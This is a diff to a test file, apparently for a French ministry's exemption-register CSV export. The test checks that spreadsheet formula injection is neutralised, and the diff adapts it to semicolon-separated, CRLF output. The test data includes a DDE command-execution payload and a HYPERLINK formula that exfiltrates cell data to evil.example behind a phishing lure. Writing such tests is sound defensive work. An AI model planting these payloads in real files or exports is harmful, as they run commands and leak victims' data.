@@ -25,11 +25,13 @@ it('neutralises justifications and device names that start with =, +, -, @, tab 
   await (await t.as('approver.interieur')).post(`/exemptions/${requested.body.id}/approve`).send({}).expect(200);
 
   const csv = await (await t.as('approver.interieur')).get('/ministries/interieur/exemption-register.csv').expect(200);
-  const line = csv.text.split('\n').find((l) => l.includes(requested.body.id as string));
+  const line = csv.text.split('\r\n').find((l) => l.includes(requested.body.id as string));
   expect(line).toBeDefined();
   // The cells are quoted by csv-stringify when needed; what a spreadsheet reads starts with an apostrophe.
   expect(line).toContain(`'@SUM(1+1)*cmd|/C calc!A0`);
   expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A2,""Cliquez ici pour valider"")"`);
-  const cells = (line as string).match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [];
+  // `;`-separated, as French Excel reads it.
+  const cells = (line as string).match(/("([^"]|"")*"|[^;]*)(;|$)/g) ?? [];
+  expect(cells.length).toBeGreaterThanOrEqual(10);
   for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]/);
 });
